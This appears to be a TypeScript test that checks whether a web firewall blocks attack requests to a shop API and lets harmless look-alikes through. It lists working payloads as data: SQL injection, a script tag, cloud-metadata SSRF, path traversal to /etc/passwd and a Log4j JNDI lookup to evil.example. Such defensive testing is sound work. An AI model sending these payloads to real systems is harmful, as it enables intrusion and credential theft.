import { landfallJson } from '../landfall.js';
import { expectEqual, expectTrue, type Row } from '../row.js';
import { api, type RequestOptions, type Shop } from '../shop.js';

type Sent = readonly [name: string, path: string, options?: RequestOptions];

const asQuery = (text: string) => `/offers?q=${encodeURIComponent(text)}`;
const json = (title: string): RequestOptions => ({
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ title, priceCents: 1 }),
});

/** By what is sent, the rule that must refuse it. */
const attacks: readonly (readonly [rule: string, sent: Sent])[] = [
  ['SQLi_QUERYARGUMENTS', ['SQL in the query', asQuery("' OR 1=1--")]],
  ['SQLi_BODY', ['SQL in the body', '/offers', json("x' UNION SELECT password FROM users--")]],
  ['SQLi_COOKIE', ['SQL in a cookie', '/offers', { headers: { cookie: "id=1' OR '1'='1" } }]],
  ['CrossSiteScripting_QUERYARGUMENTS', ['a script in the query', asQuery('<script>alert(1)</script>')]],
  ['metadata-ssrf', ['the metadata address', asQuery('http://169.254.169.254/latest/meta-data/')]],
  ['metadata-ssrf', ['the same as a number', asQuery('http://2852039166/latest/meta-data/')]],
  ['GenericLFI_QUERYARGUMENTS', ['a path upwards', asQuery('../../etc/passwd')]],
  ['Log4JRCE_QUERYSTRING', ['Log4j', asQuery('${jndi:ldap://evil.example/a}')]],
];

const harmless: readonly Sent[] = [
  ['an apostrophe', asQuery("O'Brien & Söhne")],
  ['SQL words in prose', asQuery('select a lamp or a desk from our union of shops')],
  ['a smaller-than sign', asQuery('price < 100 and size > 2')],
  ['an address of one’s own', asQuery('https://example.com/a?b=1')],
];

/** What the web ACL refuses before it reaches anything, and what it lets pass. */
export const wafRows: readonly Row[] = [
  {
    name: 'attacks get 403 from the WAF, whose trace and log name the rule; what only looks like one passes',
    check: async (shop) => {
      for (const [rule, [name, path, options]] of attacks) {
        const answer = await shop.request(`${api(shop)}${path}`, options);
        expectEqual([answer.status, answer.headers['x-blocked-by']], [403, 'waf'], name);
        expectEqual(await ruleOf(shop, answer.headers['x-landfall-trace']), rule, name);
      }
      for (const [name, path, options] of harmless)
        expectEqual((await shop.request(`${api(shop)}${path}`, options)).status, 200, name);
      const logged = await lastLogged(shop, attacks.length);
      expectEqual(
        logged,
        attacks.map(([rule]) => rule),
        'infra:logs waf',
      );
      const rules = [...new Set(attacks.map(([rule]) => rule))];
      return `403 ${String(attacks.length)} times by ${rules.join(', ')}, the same in infra:logs waf; ${String(harmless.length)} harmless ones 200`;
    },
  },
];

/** The rule that refused the request of a trace, which went no further. */
async function ruleOf(shop: Shop, id: unknown): Promise<string | undefined> {
  const { hops } = await shop.trace(String(id));
  expectTrue(
    hops.every(({ layer }) => layer === 'cloudfront' || layer === 'waf'),
    `it went on to ${hops.map(({ layer }) => layer).join(' → ')}`,
  );
  // The web ACL is a hop, and so is the rule that decided.
  return hops
    .findLast(({ outcome }) => outcome === 'block')
    ?.name.split('#')
    .at(-1);
}

async function lastLogged(shop: Shop, count: number): Promise<readonly (string | undefined)[]> {
  const args = ['infra:logs', 'waf', '--env', 'dev', '--local', '--tail', String(count)];
  const { logs } = await landfallJson<{
    readonly logs: readonly { readonly name: string; readonly lines: readonly string[] }[];
  }>(shop.folder, args);
  const lines = logs.find(({ name }) => name === 'waf-edge')?.lines ?? [];
  return lines.map((line) => (JSON.parse(line) as { readonly rule: string }).rule.split('#').at(-1));
}
